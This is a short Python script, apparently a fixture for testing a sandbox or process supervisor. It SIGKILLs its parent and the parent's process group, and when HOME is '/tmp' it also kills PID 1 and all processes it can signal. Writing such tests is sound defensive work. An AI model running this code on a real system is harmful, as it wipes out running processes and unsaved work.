# SPDX-License-Identifier: MIT
# Kills whoever watches it, and goes on. Only a sealed one dares to kill everybody.
import os
import signal
import time

parent = os.getppid()
for victim in [parent, -os.getpgid(parent), *([1, -1] if os.environ["HOME"] == "/tmp" else [])]:
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError:
        pass
time.sleep(60)
